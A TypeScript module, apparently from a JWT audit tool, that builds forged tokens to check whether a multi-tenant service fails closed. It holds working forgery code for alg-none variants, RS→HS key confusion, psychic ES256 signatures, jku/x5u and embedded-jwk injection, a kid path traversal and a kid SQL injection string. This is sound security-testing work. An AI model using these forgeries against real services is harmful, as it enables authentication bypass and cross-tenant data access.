import { randomBytes } from 'node:crypto';
import { base64url } from 'jose';
import { setClaim } from './claims.ts';
import {
  basePayload,
  bearer,
  DEFAULT_ATTACKER_JWKS_URL,
  legitJwt,
  legitKid,
  legitTyp,
  missing,
  nowSeconds,
  requireMint,
} from './forge-kit.ts';
import { encodeSegment, hmacJws, rsaJws, signingInput } from './jwt.ts';
import type { ForgeContext, Forgery, TargetPublicKey } from './types.ts';

const REJECT = 'A fail-closed service answers 401 and serves nothing.';

type Spec = Omit<Forgery, 'family' | 'description'> & { construction: string; expect?: string };

function spoofed(spec: Spec): Forgery {
  const { construction, expect, ...rest } = spec;
  return { ...rest, family: 'spoofed', description: `${construction} ${expect ?? REJECT}` };
}

/** Header for a token signed with the attacker's key; `kid` defaults to the legit token's (else the attacker's). */
function attackerHeader(ctx: ForgeContext, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { alg: 'RS256', typ: legitTyp(ctx), kid: legitKid(ctx) ?? ctx.attacker.kid, ...extra };
}

/** `header` of the legit token with overrides (alg-swapping attacks keep the rest of the header, like jwt_tool). */
function legitHeaderWith(ctx: ForgeContext, overrides: Record<string, unknown>): Record<string, unknown> {
  const base: Record<string, unknown> = { typ: legitTyp(ctx) };
  const kid = legitKid(ctx);
  if (kid !== undefined) base['kid'] = kid;
  return { alg: overrides['alg'], ...base, ...overrides };
}

function algNone(id: string, alg: string, title: string): Forgery {
  return spoofed({
    id,
    title,
    requires: [],
    claims: 'other',
    construction: `Header alg "${alg}", payload naming the other tenant, empty signature with the trailing "." kept (CVE-2015-2951).`,
    async build(ctx) {
      return bearer(`${signingInput(legitHeaderWith(ctx, { alg }), basePayload(ctx, ctx.other))}.`);
    },
  });
}

/** PEM line-ending variants tried as the HMAC secret in RS→HS confusion. */
export type PemVariant = 'lf-newline' | 'lf-no-newline' | 'crlf';

/** The PEM bytes a vulnerable verifier would use as HMAC key, in the given variant. */
export function pemAsHmacSecret(pem: string, variant: PemVariant): string {
  const lines = pem.replace(/\r\n/g, '\n').replace(/\s+$/, '');
  if (variant === 'lf-no-newline') return lines;
  if (variant === 'lf-newline') return `${lines}\n`;
  return `${lines.replace(/\n/g, '\r\n')}\r\n`;
}

/** The target key to confuse: the one whose kid matches the legit token's kid, else the first. */
export function confusionKey(ctx: ForgeContext): TargetPublicKey | undefined {
  const kid = legitKid(ctx);
  return ctx.targetPublicKeys.find((k) => kid !== undefined && k.kid === kid) ?? ctx.targetPublicKeys[0];
}

function rsHs(id: string, variant: PemVariant, title: string, variantText: string): Forgery {
  return spoofed({
    id,
    title,
    requires: ['publicKey'],
    claims: 'other',
    construction: `alg HS256 over a payload naming the other tenant, HMAC keyed with the target's public key PEM (${variantText}) (CVE-2016-10555).`,
    async build(ctx) {
      const key = confusionKey(ctx);
      if (key === undefined) throw missing(id, 'publicKey');
      const header = legitHeaderWith(ctx, { alg: 'HS256', ...(key.kid === undefined ? {} : { kid: key.kid }) });
      return bearer(hmacJws(header, basePayload(ctx, ctx.other), pemAsHmacSecret(key.pem, variant)));
    },
  });
}

function timeShifted(id: string, title: string, construction: string, shift: (now: number, p: Record<string, unknown>) => Record<string, unknown>): Forgery {
  return spoofed({
    id,
    title,
    requires: ['mint'],
    claims: 'actor',
    construction,
    async build(ctx) {
      const mint = requireMint(ctx, id);
      return bearer(await mint(shift(nowSeconds(ctx), basePayload(ctx, ctx.actor))));
    },
  });
}

/** A 64-byte all-zero ES256 signature: r = s = 0 in the JWS (RFC 7518 §3.4, R‖S) form. */
export const PSYCHIC_SIGNATURE_RAW = base64url.encode(new Uint8Array(64));
/** DER SEQUENCE { INTEGER 0, INTEGER 0 }: r = s = 0 in the ASN.1 form (WSTG). */
export const PSYCHIC_SIGNATURE_DER = 'MAYCAQACAQA';

function psychic(id: string, title: string, signature: string, form: string): Forgery {
  return spoofed({
    id,
    title,
    requires: [],
    claims: 'other',
    construction: `alg ES256, payload naming the other tenant, signature r = s = 0 as ${form} (CVE-2022-21449, "psychic signatures").`,
    async build(ctx) {
      return bearer(`${signingInput(legitHeaderWith(ctx, { alg: 'ES256' }), basePayload(ctx, ctx.other))}.${signature}`);
    },
  });
}

export const WRONG_ISSUER = 'https://issuer.tenancy-audit.invalid/';
export const WRONG_AUDIENCE = 'https://another-service.tenancy-audit.invalid';
export const KID_TRAVERSAL = '../../../../../../dev/null';
export const KID_SQLI = "x' UNION SELECT '1';--";

export const SPOOFED_FORGERIES: readonly Forgery[] = [
  spoofed({
    id: 'attacker-signed',
    title: 'Signed by an untrusted key',
    requires: [],
    claims: 'actor',
    construction: "The legit claims (own tenant) re-signed RS256 with an attacker key, header kid = the legit token's kid.",
    async build(ctx) {
      return bearer(await rsaJws(attackerHeader(ctx), basePayload(ctx, ctx.actor), ctx.attacker.privateKey));
    },
  }),
  spoofed({
    id: 'attacker-signed-other-tenant',
    title: 'Tenant claim swapped, re-signed by an untrusted key',
    requires: [],
    claims: 'other',
    construction: "The legit claims with the tenant claim swapped to the other tenant (sub unchanged), re-signed RS256 with an attacker key, kid = the legit token's kid.",
    expect: 'A fail-closed service answers 401 and never serves the other tenant.',
    async build(ctx) {
      return bearer(await rsaJws(attackerHeader(ctx), basePayload(ctx, ctx.other), ctx.attacker.privateKey));
    },
  }),
  algNone('alg-none', 'none', 'alg "none"'),
  algNone('alg-none-capitalised', 'None', 'alg "None"'),
  algNone('alg-none-upper', 'NONE', 'alg "NONE"'),
  algNone('alg-none-mixed', 'nOnE', 'alg "nOnE"'),
  spoofed({
    id: 'stripped-signature',
    title: 'Signature stripped',
    requires: ['jwt'],
    claims: 'actor',
    construction: 'The legit token with its signature removed (`header.payload.`, original alg kept; CVE-2020-28042).',
    async build(ctx) {
      const { segments } = legitJwt(ctx, 'stripped-signature');
      return bearer(`${segments[0]}.${segments[1]}.`);
    },
  }),
  spoofed({
    id: 'truncated-signature',
    title: 'Signature truncated',
    requires: ['jwt'],
    claims: 'actor',
    construction: 'The legit token with the last 4 characters of its signature dropped.',
    async build(ctx) {
      const { segments } = legitJwt(ctx, 'truncated-signature');
      if (segments[2].length <= 4) throw missing('truncated-signature', 'jwt');
      return bearer(`${segments[0]}.${segments[1]}.${segments[2].slice(0, -4)}`);
    },
  }),
  spoofed({
    id: 'tampered-payload',
    title: 'Payload edited, original signature kept',
    requires: ['jwt'],
    claims: 'other',
    construction: "The legit header and signature around a payload whose tenant claim names the other tenant (nothing else changed).",
    expect: 'A fail-closed service answers 401 and never serves the other tenant.',
    async build(ctx) {
      const { segments, payload } = legitJwt(ctx, 'tampered-payload');
      return bearer(`${segments[0]}.${encodeSegment(setClaim(payload, ctx.tenantClaim, ctx.other))}.${segments[2]}`);
    },
  }),
  spoofed({
    id: 'blank-hmac',
    title: 'HS256 with an empty secret',
    requires: [],
    claims: 'other',
    construction: 'alg HS256 (legit kid kept) over a payload naming the other tenant, HMAC keyed with the empty string (CVE-2019-20933).',
    async build(ctx) {
      return bearer(hmacJws(legitHeaderWith(ctx, { alg: 'HS256' }), basePayload(ctx, ctx.other), ''));
    },
  }),
  rsHs('rs-hs-confusion', 'lf-newline', 'RS→HS key confusion', 'LF line endings, one trailing newline, as in a .pem file'),
  rsHs('rs-hs-confusion-no-newline', 'lf-no-newline', 'RS→HS key confusion (PEM without trailing newline)', 'LF line endings, no trailing newline'),
  rsHs('rs-hs-confusion-crlf', 'crlf', 'RS→HS key confusion (CRLF PEM)', 'CRLF line endings with a trailing CRLF'),
  timeShifted(
    'expired',
    'Expired token',
    'The legit claims re-signed with the trusted key, exp one hour in the past and iat two hours in the past.',
    (now, p) => {
      const { nbf: _nbf, ...rest } = p;
      return { ...rest, iat: now - 7200, exp: now - 3600 };
    },
  ),
  timeShifted(
    'not-yet-valid',
    'Not yet valid',
    'The legit claims re-signed with the trusted key, nbf and iat one hour in the future (exp two hours).',
    (now, p) => ({ ...p, iat: now + 3600, nbf: now + 3600, exp: now + 7200 }),
  ),
  timeShifted('wrong-issuer', 'Wrong issuer', `The legit claims re-signed with the trusted key, iss set to ${WRONG_ISSUER}.`, (_now, p) => ({ ...p, iss: WRONG_ISSUER })),
  timeShifted('wrong-audience', 'Wrong audience', `The legit claims re-signed with the trusted key, aud set to another service (${WRONG_AUDIENCE}).`, (_now, p) => ({ ...p, aud: WRONG_AUDIENCE })),
  spoofed({
    id: 'unknown-kid',
    title: 'Unknown kid',
    requires: [],
    claims: 'actor',
    construction: 'The legit claims signed RS256 with an attacker key under a kid the target never published (`unknown-<random>`).',
    expect: 'A fail-closed service answers 401; it must not fall back to another key or skip verification.',
    async build(ctx) {
      const kid = `unknown-${randomBytes(6).toString('hex')}`;
      return bearer(await rsaJws(attackerHeader(ctx, { kid }), basePayload(ctx, ctx.actor), ctx.attacker.privateKey));
    },
  }),
  spoofed({
    id: 'jku-injection',
    title: 'jku header injection',
    requires: [],
    claims: 'other',
    construction: "Signed RS256 with an attacker key, header jku pointing at the attacker's JWKS and kid = the attacker's kid, payload naming the other tenant.",
    expect: 'A fail-closed service answers 401 and never fetches the URL.',
    async build(ctx) {
      const header = attackerHeader(ctx, { kid: ctx.attacker.kid, jku: ctx.attackerJwksUrl ?? DEFAULT_ATTACKER_JWKS_URL });
      return bearer(await rsaJws(header, basePayload(ctx, ctx.other), ctx.attacker.privateKey));
    },
  }),
  spoofed({
    id: 'x5u-injection',
    title: 'x5u header injection',
    requires: [],
    claims: 'other',
    construction: "Signed RS256 with an attacker key, header x5u pointing at an attacker URL (the same URL that serves the attacker JWKS), kid = the attacker's kid, payload naming the other tenant.",
    expect: 'A fail-closed service answers 401 and never fetches the URL.',
    async build(ctx) {
      const header = attackerHeader(ctx, { kid: ctx.attacker.kid, x5u: ctx.attackerJwksUrl ?? DEFAULT_ATTACKER_JWKS_URL });
      return bearer(await rsaJws(header, basePayload(ctx, ctx.other), ctx.attacker.privateKey));
    },
  }),
  spoofed({
    id: 'embedded-jwk',
    title: 'Embedded jwk header',
    requires: [],
    claims: 'other',
    construction: "Signed RS256 with an attacker key whose public JWK is embedded in the header (jwk), payload naming the other tenant (CVE-2018-0114).",
    async build(ctx) {
      const header = attackerHeader(ctx, { kid: ctx.attacker.kid, jwk: ctx.attacker.publicJwk });
      return bearer(await rsaJws(header, basePayload(ctx, ctx.other), ctx.attacker.privateKey));
    },
  }),
  spoofed({
    id: 'kid-traversal',
    title: 'kid path traversal',
    requires: [],
    claims: 'other',
    construction: `Header kid "${KID_TRAVERSAL}", alg HS256 keyed with the empty string (the contents of /dev/null), payload naming the other tenant.`,
    async build(ctx) {
      return bearer(hmacJws(legitHeaderWith(ctx, { alg: 'HS256', kid: KID_TRAVERSAL }), basePayload(ctx, ctx.other), ''));
    },
  }),
  spoofed({
    id: 'kid-sqli',
    title: 'kid SQL injection',
    requires: [],
    claims: 'other',
    construction: `Header kid "${KID_SQLI}", alg HS256 keyed with "1" (the value the injected SELECT returns), payload naming the other tenant.`,
    async build(ctx) {
      return bearer(hmacJws(legitHeaderWith(ctx, { alg: 'HS256', kid: KID_SQLI }), basePayload(ctx, ctx.other), '1'));
    },
  }),
  psychic('psychic-signature', 'Psychic signature (ES256 r=s=0)', PSYCHIC_SIGNATURE_RAW, '64 zero bytes (the JWS R‖S form JOSE libraries parse)'),
  psychic('psychic-signature-der', 'Psychic signature (DER r=s=0)', PSYCHIC_SIGNATURE_DER, 'the DER encoding MAYCAQACAQA'),
];
